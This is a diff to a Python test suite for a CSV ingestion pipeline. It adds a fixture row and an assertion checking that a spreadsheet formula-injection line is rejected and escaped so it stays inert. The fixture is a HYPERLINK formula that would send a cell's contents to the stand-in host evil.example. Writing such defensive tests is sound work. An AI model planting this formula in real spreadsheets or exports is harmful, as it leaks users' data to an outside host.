@@ -59,6 +59,13 @@ CORPUS: dict[str, tuple[bytes, int, list[str], str | None]] = {
         ["line is not UTF-8 text"] * 2,
         None,
     ),
+    # A line a spreadsheet would run as a formula: rejected, and kept inert (see below).
+    "formula.us.csv": (
+        H + GOOD + b'=HYPERLINK("http://evil.example/?"&A1,"x"),1\n',
+        1,
+        ["expected 7 fields, found 3"],
+        None,
+    ),
     "hugevolume.us.csv": (
         H + GOOD + b"2020-01-03,1,2,1,1,99999999999999999999999,0\n",
         1,
@@ -146,6 +153,8 @@ def test_the_whole_corpus_through_the_pipeline_loses_nothing(seeded_stack, s3_cl
         == sum(len(r) for _, _, r, _ in CORPUS.values()) + 1
     )
     assert all(r["reason"] for r in rejected)
+    [formula] = [r for r in rejected if r["file_name"] == "formula.us.csv"]
+    assert formula["raw_row"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x"),1'
     skipped = {r["file_name"]: r["reason"] for r in read("skipped_files.csv")}
     expected_skips = {n for n, (_, _, _, skip) in CORPUS.items() if skip} | {
         "notthere.us.csv",
